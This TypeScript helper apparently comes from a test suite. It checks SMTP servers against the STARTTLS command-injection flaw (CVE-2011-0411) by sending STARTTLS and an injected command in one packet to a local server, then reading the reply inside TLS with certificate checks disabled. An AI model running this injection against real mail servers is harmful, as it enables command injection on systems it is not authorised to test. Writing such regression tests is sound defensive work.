import { once } from 'node:events';
import { connect as connectPlain } from 'node:net';
import { connect } from 'node:tls';

/**
 * Sends STARTTLS and another command in one piece, as an attacker between the peers does who wants
 * the command to run inside TLS (CVE-2011-0411). Returns the first reply inside TLS: the one to
 * `asked`, or the one to the injected command if the server kept that.
 */
export async function injectBehindStartTls(port: number, injected: string, asked: string): Promise<string> {
  const plain = connectPlain(port, '127.0.0.1');
  await once(plain, 'data');
  plain.write('EHLO a.test\r\n');
  await once(plain, 'data');
  plain.write(`STARTTLS\r\n${injected}\r\n`);
  const [answer] = (await once(plain, 'data')) as [Buffer];
  if (!/^220 [^\r\n]*\r\n$/.test(answer.toString())) return answer.toString();
  const secure = connect({ socket: plain, servername: 'host.test', rejectUnauthorized: false });
  await once(secure, 'secureConnect');
  secure.write(`${asked}\r\n`);
  const [reply] = (await once(secure, 'data')) as [Buffer];
  secure.destroy();
  return reply.toString();
}
